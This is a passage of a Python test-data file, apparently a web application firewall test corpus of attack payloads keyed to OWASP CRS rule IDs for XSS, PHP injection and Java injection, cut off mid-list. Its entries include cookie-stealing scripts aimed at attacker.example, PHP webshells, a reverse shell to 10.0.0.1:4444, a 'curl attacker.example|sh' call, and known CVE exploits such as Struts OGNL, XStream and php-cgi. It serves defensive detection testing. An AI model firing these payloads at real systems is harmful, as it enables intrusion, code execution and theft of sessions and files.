"""Blind attack batch V: intents of CRS 4.25 PL1/PL2 rules in 941 (XSS), 933 (PHP), 944 (Java), 934 (generic)."""
from __future__ import annotations


def _post(path: str, ctype: str, body: str, extra: str = "") -> str:
    """Build a raw POST request with a correct Content-Length."""
    n = len(body.encode("utf-8", "surrogateescape"))
    return (f"POST {path} HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n"
            f"{extra}Content-Type: {ctype}\r\nContent-Length: {n}\r\n\r\n{body}")


BLIND_ATTACKS_V = [
    # --- 941100 / 941101 libinjection XSS ---
    ("xss", "941100 libinjection: svg onload", "query", "q", "<svg/onload=alert(document.domain)>"),
    ("xss", "941100 libinjection: img onerror in form field", "form", "comment", "\"><img src=x onerror=prompt(1)>"),
    ("xss", "941100 libinjection: script tag in cookie", "cookie", "lang", "en\"><script>alert(document.cookie)</script>"),
    ("xss", "941100 libinjection: body onload in JSON", "json", "displayName", "<body onload=alert`1`>"),
    ("xss", "941101 libinjection: payload in Referer header", "header:Referer", "", "https://example.com/?\"><svg onload=confirm(1)>"),
    ("xss", "941101 libinjection: payload in path", "path", "", "/profile/\"><img src=1 onerror=alert(1)>"),
    ("xss", "941101 libinjection: Referer with javascript-bearing iframe", "header:Referer", "", "https://www.example.com/search?q=<iframe src=javascript:alert(document.domain)>"),
    ("xss", "941101 libinjection: path segment svg", "path", "", "/blog/<svg onload=alert(1)>/comments"),
    # --- 941110 script tag vector ---
    ("xss", "941110 script tag: classic", "query", "search", "<script>alert(1)</script>"),
    ("xss", "941110 script tag: mixed case with src", "form", "bio", "<ScRiPt src=//evil.example/x.js></sCrIpT>"),
    ("xss", "941110 script tag: in User-Agent (log viewer XSS)", "header:User-Agent", "", "Mozilla/5.0 <script>fetch('//attacker.example/?c='+document.cookie)</script>"),
    ("xss", "941110 script tag: in XML element", "body:application/xml", "comments", "<?xml version=\"1.0\"?><comment><text>&lt;script&gt;alert(1)&lt;/script&gt;</text><author><![CDATA[<script>alert(2)</script>]]></author></comment>"),
    ("xss", "941110 script tag: in parameter name", "path", "", "/search?<script>alert(1)</script>=1"),
    # --- 941120 event handler vector ---
    ("xss", "941120 event handler: onmouseover attribute breakout", "query", "name", "\" onmouseover=\"alert(1)"),
    ("xss", "941120 event handler: details ontoggle", "form", "message", "<details open ontoggle=alert(1)>"),
    ("xss", "941120 event handler: onfocus autofocus", "query", "email", "x\" autofocus onfocus=alert(document.domain) x=\""),
    ("xss", "941120 event handler: onpointerenter in cookie", "cookie", "theme", "dark' onpointerenter='alert(1)"),
    ("xss", "941120 event handler: onanimationstart in JSON", "json", "title", "<style>@keyframes x{}</style><p style=\"animation-name:x\" onanimationstart=\"alert(1)\"></p>"),
    # --- 941130 attribute vector ---
    ("xss", "941130 attribute vector: xlink:href javascript", "query", "q", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">click</text></a></svg>"),
    ("xss", "941130 attribute vector: style with expression()", "form", "style", "<div style=\"width:expression(alert(1))\">"),
    ("xss", "941130 attribute vector: data:text/html in iframe src", "query", "embed", "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>"),
    ("xss", "941130 attribute vector: formaction javascript", "form", "html", "<form><button formaction=javascript:alert(1)>go</button></form>"),
    # --- 941140 javascript URI vector ---
    ("xss", "941140 javascript URI: css url()", "query", "bg", "<div style=\"background-image:url(javascript:alert(1))\">"),
    ("xss", "941170 javascript URI: link stylesheet href", "form", "header", "<link rel=stylesheet href=\"javascript:alert(1)\">"),
    ("xss", "941140 javascript URI: vbscript in style", "query", "css", "<p style=\"background:url(vbscript:msgbox(1))\">"),
    ("xss", "941140 javascript URI: list-style-image url(javascript:)", "cookie", "style", "<ul style=\"list-style-image:url(javascript:alert(document.cookie))\"><li>x</li></ul>"),
    ("xss", "941140 javascript URI: attribute breakout into style url()", "json", "color", "red;\" style=\"x:expression(0);background:url(javascript:alert(1))"),
    # --- 941160 NoScript HTML injection ---
    ("xss", "941160 NoScript HTML injection: object data", "query", "q", "<object data=\"//evil.example/x.swf\"></object>"),
    ("xss", "941160 NoScript HTML injection: embed src", "form", "content", "<embed src=\"javascript:alert(1)\">"),
    ("xss", "941160 NoScript HTML injection: iframe srcdoc", "json", "html", "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>"),
    ("xss", "941160 NoScript HTML injection: base href hijack", "query", "ref", "<base href=\"//attacker.example/\">"),
    ("xss", "941160 NoScript HTML injection: meta refresh", "form", "signature", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
    # --- 941170 NoScript attribute injection ---
    ("xss", "941170 NoScript attribute injection: href javascript", "query", "url", "\"><a href=\"javascript:alert(1)\">x</a>"),
    ("xss", "941170 NoScript attribute injection: bare javascript: url for redirect", "query", "next", "javascript:alert(document.cookie)//"),
    ("xss", "941170 NoScript attribute injection: data URI redirect", "query", "returnUrl", "data:text/html,<script>alert(1)</script>"),
    ("xss", "941170 NoScript attribute injection: style attribute breakout", "cookie", "pref", "x\" style=\"behavior:url(#default#time2)\" onbegin=\"alert(1)"),
    # --- 941180 / 941181 node-validator deny list ---
    ("xss", "941180 node-validator: document.cookie exfil", "query", "cb", "';new Image().src='//attacker.example/?'+document.cookie;//"),
    ("xss", "941180 node-validator: document.write", "form", "snippet", "document.write('<img src=//attacker.example/'+document.cookie+'>')"),
    ("xss", "941180 node-validator: window.location redirect", "json", "onSuccess", "window.location='https://attacker.example/?'+localStorage.token"),
    ("xss", "941181 node-validator: -->  comment breakout", "query", "note", "--><svg onload=alert(1)>"),
    ("xss", "941181 node-validator: closing comment into script", "form", "text", "x--><script>alert(1)</script><!--"),
    ("xss", "941181 node-validator: comment close in cookie", "cookie", "banner", "--><img src=x onerror=alert(1)>"),
    ("xss", "941181 node-validator: comment close in XML", "body:application/xml", "notes", "<?xml version=\"1.0\"?><note><body>--&gt;&lt;script&gt;alert(1)&lt;/script&gt;</body></note>"),
    ("xss", "941180 node-validator: CDATA wrapped script in XML", "body:application/xml", "feedback", "<?xml version=\"1.0\"?><feedback><msg><![CDATA[<img src=x onerror=alert(document.domain)>]]></msg></feedback>"),
    ("xss", "941180 node-validator: innerHTML sink assignment", "query", "callback", "x;document.body.innerHTML='<img src=x onerror=alert(1)>'"),
    # --- 941190 IE XSS filters: style tag with expression/import ---
    ("xss", "941190 IE filter: style tag with @import", "query", "q", "<style>@import 'http://attacker.example/xss.css';</style>"),
    ("xss", "941190 IE filter: style tag with expression", "form", "comment", "<STYLE>body{width:expression(alert('XSS'))}</STYLE>"),
    ("xss", "941190 IE filter: style tag with -moz-binding url", "query", "skin", "<style>li{-moz-binding:url(\"http://attacker.example/xss.xml#xss\")}</style>"),
    ("xss", "941190 IE filter: style tag with escaped css", "cookie", "layout", "<style>a{background:\\75\\72\\6c(javascript:alert(1))}</style>"),
    # --- 941200 IE filter: vmlframe ---
    ("xss", "941200 IE filter: VML frame src", "query", "q", "<v:vmlframe src=\"//attacker.example/xss.vml#xss\"></v:vmlframe>"),
    ("xss", "941200 IE filter: namespaced vmlframe in form", "form", "body", "<html xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:vmlframe src=\"http://attacker.example/a.vml\">"),
    ("xss", "941200 IE filter: vmlframe in JSON", "json", "notes", "<xss:vmlframe src=//attacker.example/x.vml>"),
    # --- 941210 IE filter: obfuscated javascript: ---
    ("xss", "941210 IE filter: javascript with entity-encoded letters", "query", "url", "<a href=\"&#106;avascript:alert(1)\">x</a>"),
    ("xss", "941210 IE filter: javascript with tab and newline entities", "form", "website", "java&Tab;script&colon;alert(1)"),
    ("xss", "941210 IE filter: javascript with hex entities", "query", "link", "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)"),
    ("xss", "941210 IE filter: javascript split by newline", "json", "homepage", "jav\nascript:alert(document.domain)"),
    # --- 941220 IE filter: obfuscated vbscript: ---
    ("xss", "941220 IE filter: vbscript URI", "query", "url", "vbscript:msgbox(\"XSS\")"),
    ("xss", "941220 IE filter: vbscript with entity encoding", "form", "site", "<a href=\"&#118;bscript:msgbox(1)\">x</a>"),
    ("xss", "941220 IE filter: vbscript with tab", "cookie", "return", "vb\tscript:Execute(\"MsgBox 1\")"),
    # --- 941230 IE filter: embed ---
    ("xss", "941230 IE filter: embed svg with script", "query", "q", "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiBvbmxvYWQ9ImFsZXJ0KDEpIi8+\" type=\"image/svg+xml\">"),
    ("xss", "941230 IE filter: embed flash allowscriptaccess", "form", "video", "<embed src=\"//attacker.example/xss.swf\" allowscriptaccess=always>"),
    ("xss", "941230 IE filter: embed with slash separator", "json", "widget", "<embed/type=\"text/html\"/src=\"//attacker.example/x.html\">"),
    # --- 941240 IE filter: import implementation ---
    ("xss", "941240 IE filter: import implementation htc", "query", "q", "<?import namespace=\"t\" implementation=\"#default#time2\">"),
    ("xss", "941240 IE filter: import behavior in form", "form", "html", "<html><?import namespace=\"x\" implementation=\"//attacker.example/x.htc\"><x:y></x:y></html>"),
    ("xss", "941240 IE filter: import implementation in cookie", "cookie", "banner", "<import implementation=\"#default#time2\">"),
    # --- 941250 IE filter: meta http-equiv ---
    ("xss", "941250 IE filter: meta http-equiv refresh data URI", "query", "q", "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg\">"),
    ("xss", "941250 IE filter: meta set-cookie injection", "form", "title", "<meta http-equiv=\"Set-Cookie\" content=\"session=attacker; path=/\">"),
    ("xss", "941250 IE filter: meta content-security-policy override", "json", "headerHtml", "<meta http-equiv='Content-Security-Policy' content=\"script-src 'unsafe-inline' *\">"),
    # --- 941260 IE filter: meta charset ---
    ("xss", "941260 IE filter: meta charset UTF-7 switch", "query", "q", "<meta charset=\"UTF-7\">+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("xss", "941260 IE filter: meta http-equiv content-type charset", "form", "intro", "<META HTTP-EQUIV=\"Content-Type\" CONTENT=\"text/html; charset=UTF-7\">"),
    ("xss", "941260 IE filter: meta charset in cookie", "cookie", "tpl", "<meta/charset=x-imap4-modified-utf7>"),
    # --- 941270 IE filter: link href ---
    ("xss", "941270 IE filter: link stylesheet from attacker host", "query", "q", "<LINK REL=\"stylesheet\" HREF=\"http://attacker.example/xss.css\">"),
    ("xss", "941270 IE filter: link import", "form", "footer", "<link rel=import href=\"//attacker.example/evil.html\">"),
    ("xss", "941270 IE filter: link prefetch exfil", "json", "summary", "<link/rel=prefetch/href=\"//attacker.example/?leak\">"),
    # --- 941280 IE filter: base href ---
    ("xss", "941280 IE filter: base href redirect relative scripts", "query", "q", "<BASE HREF=\"javascript:alert('XSS');//\">"),
    ("xss", "941280 IE filter: base href in form", "form", "description", "<base href=\"https://attacker.example/static/\">"),
    ("xss", "941280 IE filter: base with slash separator in cookie", "cookie", "msg", "<base/href=//attacker.example/>"),
    # --- 941290 IE filter: applet ---
    ("xss", "941290 IE filter: applet code", "query", "q", "<applet code=\"Evil.class\" codebase=\"http://attacker.example/\"></applet>"),
    ("xss", "941290 IE filter: applet with archive", "form", "content", "<APPLET ARCHIVE=\"//attacker.example/x.jar\" CODE=\"x.Main\" width=1 height=1>"),
    ("xss", "941290 IE filter: bare applet tag", "json", "bio", "<applet>"),
    # --- 941300 IE filter: object ---
    ("xss", "941300 IE filter: object classid ActiveX", "query", "q", "<OBJECT CLASSID=\"clsid:ae24fdae-03c6-11d1-8b76-0080c744f389\"><param name=url value=javascript:alert(1)></OBJECT>"),
    ("xss", "941300 IE filter: object type text/html data", "form", "preview", "<object type=\"text/html\" data=\"//attacker.example/x.html\"></object>"),
    ("xss", "941300 IE filter: object data javascript", "cookie", "frame", "<object data=javascript:alert(1)>"),
    # --- 941310 US-ASCII malformed encoding ---
    ("xss", "941310 US-ASCII: high-bit tag in cookie", "raw", "", "GET /account HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0\r\nCookie: pref=%BCscript%BEalert(%A2XSS%A2)%BC/script%BE\r\n\r\n"),
    ("xss", "941310 US-ASCII: raw high-bit encoded script", "raw", "", "GET /index.php?name=\udcbcscript\udcbealert(1)\udcbc/script\udcbe HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n"),
    ("xss", "941310 US-ASCII: high-bit tag in form body", "raw", "", _post("/comment", "application/x-www-form-urlencoded", "text=%BCsvg+onload%3Dalert(1)%BE&submit=Post+it")),
    # --- 941350 UTF-7 ---
    ("xss", "941350 UTF-7: encoded script tag", "query", "q", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("xss", "941350 UTF-7: encoded attribute breakout", "form", "name", "+ACI-+AD4-+ADw-img src+AD0-x onerror+AD0-alert(1)+AD4-"),
    ("xss", "941350 UTF-7: encoded svg in cookie", "cookie", "ref", "+ADw-svg onload+AD0-alert(document.domain)+AD4-"),
    # --- 941360 JSFuck / Hieroglyphy ---
    ("xss", "941360 JSFuck: alert(1) fragment", "query", "q", "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]][([][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]]((!![]+[])[+!+[]]+(!![]+[])[!+[]+!+[]+!+[]])()"),
    ("xss", "941360 JSFuck: string build in form", "form", "callback", "(![]+[])[+!+[]]+(![]+[])[!+[]+!+[]]+(!![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]+(!![]+[])[+[]]"),
    ("xss", "941360 Hieroglyphy: obfuscated in JSON", "json", "expr", "(!![]+[])[+[]]+(![]+[])[!+[]+!+[]+!+[]]+([][[]]+[])[+!+[]]"),
    # --- 941370 JavaScript global variable ---
    ("xss", "941370 global variable: window bracket access", "query", "q", "\";window['al'+'ert'](document.domain);//"),
    ("xss", "941370 global variable: self with comment", "form", "name", "self/*x*/['ale'+'rt'](1)"),
    ("xss", "941370 global variable: top bracket with hex", "query", "cb", "top['\\x61\\x6c\\x65\\x72\\x74'](1)"),
    ("xss", "941370 global variable: document bracket cookie", "cookie", "track", "'-document['cookie']-'"),
    ("xss", "941370 global variable: this with atob", "json", "label", "this[atob('YWxlcnQ=')](1)"),
    # --- 941390 javascript method ---
    ("xss", "941390 JS method: eval atob", "query", "q", "eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))"),
    ("xss", "941390 JS method: setTimeout string", "form", "handler", "setTimeout('alert(document.domain)',0)"),
    ("xss", "941390 JS method: new Function", "json", "formula", "new Function('return fetch(\"//attacker.example/\"+document.cookie)')()"),
    ("xss", "941390 JS method: fetch exfil in cookie", "cookie", "tz", "';fetch('//attacker.example/c?'+document.cookie);'"),
    ("xss", "941390 JS method: import() dynamic module", "query", "next", "\";import('//attacker.example/x.js');//"),
    # --- 941400 JS function without parentheses ---
    ("xss", "941400 no-parens: [].map.call with template", "query", "q", "[].map.call`${eval}\\u0061lert\\u0028document.domain\\u0029`"),
    ("xss", "941400 no-parens: Reflect.apply.call tagged template", "form", "name", "Reflect.apply.call`${alert}${window}${[1337]}`"),
    ("xss", "941400 no-parens: [].sort.call with eval", "json", "tag", "[].sort.call`${alert}1337`"),
    # --- 941150 disallowed HTML attributes (PL2) ---
    ("xss", "941150 disallowed attribute: src breakout", "query", "avatar", "x\" src=\"//attacker.example/track.gif"),
    ("xss", "941150 disallowed attribute: style breakout overlay", "form", "nickname", "\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\" onclick=\"alert(1)"),
    ("xss", "941150 disallowed attribute: href injection", "cookie", "ref", "'><a href='//attacker.example/phish'>login again</a>"),
    ("xss", "941150 disallowed attribute: img src in User-Agent", "header:User-Agent", "", "<img src=//attacker.example/ua.png>"),
    # --- 941320 HTML tag handler (PL2) ---
    ("xss", "941320 HTML tag handler: marquee with handler", "query", "q", "<marquee onstart=alert(1)>"),
    ("xss", "941320 HTML tag handler: input autofocus", "form", "username", "<input autofocus onfocus=alert(1)>"),
    ("xss", "941320 HTML tag handler: form phishing injection", "json", "message", "<form action=\"https://attacker.example/login\" method=post><input name=password type=password></form>"),
    ("xss", "941320 HTML tag handler: textarea breakout", "query", "draft", "</textarea><img src=x onerror=alert(1)>"),
    # --- 941330 / 941340 IE filters: quote breakout with property assignment (PL2) ---
    ("xss", "941330 IE filter: quote breakout to location assignment", "query", "q", "\";location='//attacker.example/?'+document.cookie;//"),
    ("xss", "941330 IE filter: unicode-escaped location", "form", "msg", "';\\u006Cocation='javascript:alert(1)';//"),
    ("xss", "941330 IE filter: name via in operator", "query", "cb", "'in alert(name)//"),
    ("xss", "941340 IE filter: quote breakout property assignment", "query", "lang", "\";document.body.innerHTML=1;//"),
    ("xss", "941340 IE filter: breakout to window.onerror assignment", "cookie", "locale", "';window.onerror=eval;throw'=alert\\x281\\x29';//"),
    ("xss", "941340 IE filter: JSON string breakout", "json", "term", "\"-top.location.href='//attacker.example/'-\""),
    # --- 941380 AngularJS CSTI (PL2) ---
    ("xss", "941380 AngularJS CSTI: constructor.constructor", "query", "q", "{{constructor.constructor('alert(1)')()}}"),
    ("xss", "941380 AngularJS CSTI: sandbox escape 1.4", "form", "name", "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}"),
    ("xss", "941380 AngularJS CSTI: $on.constructor", "json", "comment", "{{$on.constructor('alert(document.domain)')()}}"),
    ("xss", "941380 AngularJS CSTI: orderBy filter escape", "cookie", "search", "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}"),

    # --- 933100 PHP open tag ---
    ("php", "933100 PHP open tag: system call", "query", "q", "<?php system($_GET['c']); ?>"),
    ("php", "933100 PHP open tag: short echo tag", "form", "content", "<?=`id`?>"),
    ("php", "933100 PHP open tag: short tag in cookie", "cookie", "lang", "<? passthru('uname -a'); ?>"),
    ("php", "933100 PHP open tag: BBCode-style php tag", "form", "post", "[php]eval(base64_decode('cGhwaW5mbygpOw=='));[/php]"),
    ("php", "933100 PHP open tag: Smarty {php} tag", "query", "template", "{php}echo shell_exec('id');{/php}"),
    ("php", "933100 PHP open tag: in XML element", "body:application/xml", "import", "<?xml version=\"1.0\"?><item><title>x</title><desc>&lt;?php eval($_POST['x']); ?&gt;</desc></item>"),
    # --- 933110 PHP script upload ---
    ("php", "933110 PHP upload: webshell filename", "multipart", "file", "shell.php"),
    ("php", "933110 PHP upload: phtml extension", "multipart", "avatar", "avatar.phtml"),
    ("php", "933110 PHP upload: php5 with trailing dot", "multipart", "upload", "cmd.php5."),
    ("php", "933110 PHP upload: phar archive", "multipart", "attachment", "exploit.phar"),
    ("php", "933110 PHP upload: X-Filename header", "raw", "", _post("/upload.php", "application/octet-stream", "<?php @eval($_POST['pass']);?>", "X-Filename: info.php\r\n")),
    # --- 933120 PHP configuration directive ---
    ("php", "933120 PHP config directive: CVE-2012-1823 php-cgi -d", "path", "", "/index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input"),
    ("php", "933120 PHP config directive: CVE-2024-4577 soft hyphen php-cgi", "raw", "", _post("/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "application/x-www-form-urlencoded", "<?php echo shell_exec('whoami'); ?>")),
    ("php", "933120 PHP config directive: .user.ini upload contents", "form", "content", "auto_prepend_file=/tmp/sess_abc.jpg"),
    ("php", "933120 PHP config directive: in JSON", "json", "settings", "allow_url_fopen=On\nallow_url_include=On"),
    # --- 933130 PHP superglobals ---
    ("php", "933130 PHP variable: $_GET passed to eval", "query", "code", "eval($_GET['x'])"),
    ("php", "933130 PHP variable: $_SERVER dump", "form", "expr", "print_r($_SERVER)"),
    ("php", "933130 PHP variable: $GLOBALS in cookie", "cookie", "filter", "${$GLOBALS['_POST']['f']}"),
    ("php", "933130 PHP variable: $_REQUEST in parameter name", "path", "", "/index.php?$_REQUEST[cmd]=id"),
    ("php", "933130 PHP variable: $HTTP_RAW_POST_DATA", "json", "cb", "assert($HTTP_RAW_POST_DATA)"),
    # --- 933135 PHP variable access ${...} ---
    ("php", "933135 PHP variable access: ${phpinfo()}", "query", "name", "${@phpinfo()}"),
    ("php", "933135 PHP variable access: complex syntax system", "form", "title", "${system('cat /etc/passwd')}"),
    ("php", "933135 PHP variable access: preg_replace /e payload", "query", "replace", "{${eval($_GET[1])}}"),
    ("php", "933135 PHP variable access: in path", "path", "", "/index.php/${print(md5(31337))}"),
    # --- 933140 php:// streams ---
    ("php", "933140 php stream: filter base64 source disclosure", "query", "page", "php://filter/convert.base64-encode/resource=index.php"),
    ("php", "933140 php stream: php://input include", "query", "file", "php://input"),
    ("php", "933140 php stream: filter chain RCE", "form", "template", "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7/resource=php://temp"),
    ("php", "933140 php stream: mixed case read filter", "cookie", "lang", "PHP://FILTER/read=string.rot13/resource=config.php"),
    ("php", "933140 php stream: php://fd in JSON", "json", "path", "php://fd/3"),
    # --- 933200 PHP wrapper schemes ---
    ("php", "933200 PHP wrapper: expect:// command", "query", "page", "expect://id"),
    ("php", "933200 PHP wrapper: phar:// deserialisation trigger", "form", "image", "phar://uploads/avatar.jpg/test.txt"),
    ("php", "933200 PHP wrapper: zip:// include", "query", "file", "zip://uploads/shell.zip#shell.php"),
    ("php", "933200 PHP wrapper: zlib:// in cookie", "cookie", "tpl", "zlib://../../../../etc/passwd"),
    ("php", "933200 PHP wrapper: glob:// directory listing", "json", "dir", "glob:///var/www/html/*.php"),
    ("php", "933200 PHP wrapper: ssh2.exec", "query", "src", "ssh2.exec://user:pass@127.0.0.1:22/id"),
    # --- 933150 high-risk PHP function names ---
    ("php", "933150 high-risk function: file_get_contents", "query", "cb", "file_get_contents('/etc/passwd')"),
    ("php", "933150 high-risk function: shell_exec", "form", "code", "echo shell_exec('ls -la');"),
    ("php", "933150 high-risk function: base64_decode eval chain", "cookie", "data", "eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));"),
    ("php", "933150 high-risk function: call_user_func in JSON", "json", "handler", "call_user_func('system','id')"),
    ("php", "933150 high-risk function: gzinflate webshell loader", "body:application/xml", "rpc", "<?xml version=\"1.0\"?><methodCall><methodName>eval</methodName><params><param><value>eval(gzinflate(base64_decode('S0ktLtFIzs8rSc0rKdZUSMvPT9FU8EgtSk0tLi4pVshQ8MjPz0lVUMjIz88BAA==')));</value></param></params></methodCall>"),
    # --- 933160 high-risk PHP function call ---
    ("php", "933160 high-risk call: system()", "query", "cmd", "system('id')"),
    ("php", "933160 high-risk call: comment evasion", "form", "q", "system/**/('cat /etc/passwd')"),
    ("php", "933160 high-risk call: quoted function name", "query", "f", "\"passthru\"('whoami')"),
    ("php", "933160 high-risk call: assert with string", "cookie", "debug", "assert(\"phpinfo()\")"),
    ("php", "933160 high-risk call: create_function injection", "json", "sort", "create_function('', 'system(\"id\");')"),
    ("php", "933160 high-risk call: popen with hash comment", "query", "x", "popen#x\n('id','r')"),
    # --- 933170 serialized object injection ---
    ("php", "933170 object injection: Monolog gadget", "cookie", "cart", "O:32:\"Monolog\\Handler\\SyslogUdpHandler\":1:{s:6:\"socket\";O:29:\"Monolog\\Handler\\BufferHandler\":0:{}}"),
    ("php", "933170 object injection: generic object in query", "query", "data", "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("php", "933170 object injection: custom serializable C:", "form", "state", "C:11:\"ArrayObject\":37:{x:i:0;a:1:{s:1:\"a\";s:2:\"id\";};m:a:0:{}}"),
    ("php", "933170 object injection: in header", "header:X-Session-Data", "", "O:4:\"User\":2:{s:4:\"name\";s:5:\"admin\";s:7:\"isAdmin\";b:1;}"),
    ("php", "933170 object injection: lowercase o in JSON", "json", "prefs", "o:9:\"Exception\":1:{s:7:\"message\";s:3:\"pwn\";}"),
    # --- 933180 variable function call ---
    ("php", "933180 variable function: $_GET[0]($_GET[1])", "query", "x", "$_GET[0]($_GET[1])"),
    ("php", "933180 variable function: variable-variable call", "form", "code", "$a='sys'.'tem';$a('id');"),
    ("php", "933180 variable function: ${} callee", "cookie", "k", "${'_PO'.'ST'}['f']($_POST['a'])"),
    ("php", "933180 variable function: $$ with comment", "query", "cb", "$$x/**/('whoami')"),
    ("php", "933180 variable function: array element callee", "json", "fn", "$f['x'][0]('cat /etc/passwd')"),
    # --- 933210 variable function call (string / parenthesised callee) ---
    ("php", "933210 variable function: parenthesised string callee", "query", "code", "(system)('id');"),
    ("php", "933210 variable function: concatenated name", "form", "x", "('sys'.'tem')('uname -a');"),
    ("php", "933210 variable function: string callee", "cookie", "p", "\"assert\"($_POST[1]);"),
    ("php", "933210 variable function: strrev obfuscation", "query", "q", "(strrev('metsys'))('id');"),
    ("php", "933210 variable function: chr-built callee", "json", "eval", "(chr(115).chr(121).chr(115).chr(116).chr(101).chr(109))('id');"),
    # --- 933220 PHP session file upload ---
    ("php", "933220 session upload: sess_ filename", "multipart", "file", "sess_4a3b1c9d8e7f6a5b4c3d2e1f0a"),
    ("php", "933220 session upload: traversal into session dir", "multipart", "upload", "../../../../var/lib/php/sessions/sess_abcdef0123456789abcdef01"),
    ("php", "933220 session upload: X-File-Name header", "raw", "", _post("/upload", "application/octet-stream", "user|s:5:\"admin\";role|s:5:\"admin\";", "X-File-Name: sess_0123456789abcdefghijklmn\r\n")),
    # --- 933151 medium-risk functions (a-j) ---
    ("php", "933151 medium-risk function: highlight_file style fpassthru", "query", "cb", "fpassthru(fopen('/etc/passwd','r'))"),
    ("php", "933151 medium-risk function: file_put_contents webshell drop", "form", "code", "file_put_contents('x.php','<?php system($_GET[0]);')"),
    ("php", "933151 medium-risk function: chmod", "cookie", "op", "chmod('/var/www/html/x.php',0777)"),
    ("php", "933151 medium-risk function: fsockopen reverse shell", "json", "cmd", "$s=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");"),
    # --- 933152 medium-risk functions (k-q) ---
    ("php", "933152 medium-risk function: pcntl_exec", "query", "x", "pcntl_exec('/bin/bash',array('-c','id'))"),
    ("php", "933152 medium-risk function: mb_send_mail injection", "form", "cb", "mb_send_mail('a@attacker.example','x','y','','-X/var/www/html/x.php')"),
    ("php", "933152 medium-risk function: posix_setuid", "cookie", "fn", "posix_setuid(0)"),
    ("php", "933152 medium-risk function: phpinfo", "query", "debug", "phpinfo()"),
    # --- 933153 medium-risk functions (r-z) ---
    ("php", "933153 medium-risk function: readfile", "query", "f", "readfile('/etc/passwd')"),
    ("php", "933153 medium-risk function: scandir listing", "form", "x", "print_r(scandir('/var/www'))"),
    ("php", "933153 medium-risk function: stream_socket_client", "json", "code", "stream_socket_client('tcp://10.0.0.1:4444')"),
    ("php", "933153 medium-risk function: str_rot13 obfuscated eval", "cookie", "c", "str_rot13('flfgrz')('id')"),
    # --- 944100 java.lang.Runtime / ProcessBuilder ---
    ("java", "944100 Java class: OGNL Runtime exec (Struts S2-045)", "header:Content-Type", "", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.redirectErrorStream(true)).(#process=#p.start())}"),
    ("java", "944100 Java class: SpEL T(java.lang.Runtime)", "query", "sort", "T(java.lang.Runtime).getRuntime().exec('id')"),
    ("java", "944100 Java class: EL Runtime in form", "form", "name", "${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"id\")}"),
    ("java", "944100 Java class: ProcessBuilder in JSON", "json", "expression", "new java.lang.ProcessBuilder(\"bash\",\"-c\",\"curl attacker.example|sh\").start()"),
    ("java", "944100 Java class: Runtime in User-Agent", "header:User-Agent", "", "#{T(java.lang.Runtime).getRuntime().exec('nslookup x.attacker.example')}"),
    # --- 944110 Java process spawn (XStream, CVE-2017-9805) ---
    ("java", "944110 Java process spawn: Struts REST XStream ProcessBuilder", "body:application/xml", "orders/3", "<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class=\"com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler><dataSource class=\"com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource\"><is class=\"javax.crypto.CipherInputStream\"><cipher class=\"javax.crypto.NullCipher\"><initialized>false</initialized><opmode>0</opmode><serviceIterator class=\"javax.imageio.spi.FilterIterator\"><iter class=\"javax.imageio.spi.FilterIterator\"><iter class=\"java.util.Collections$EmptyIterator\"/><next class=\"java.lang.ProcessBuilder\"><command><string>touch</string><string>/tmp/pwned</string></command><redirectErrorStream>false</redirectErrorStream></next></iter><filter class=\"javax.imageio.ImageIO$ContainsFilter\"><method><class>java.lang.ProcessBuilder</class><name>start</name><parameter-types/></method><name>foo</name></filter><next class=\"string\">foo</next></serviceIterator><lock/></cipher><input class=\"java.lang.ProcessBuilder$NullInputStream\"/><ibuffer></ibuffer><done>false</done><ostart>0</ostart><ofinish>0</ofinish><closed>false</closed></is><consumed>false</consumed></dataSource><transferFlavors/></dataHandler><dataLen>0</dataLen></value></jdk.nashorn.internal.objects.NativeString><jdk.nashorn.internal.objects.NativeString reference=\"../jdk.nashorn.internal.objects.NativeString\"/></entry></map>"),
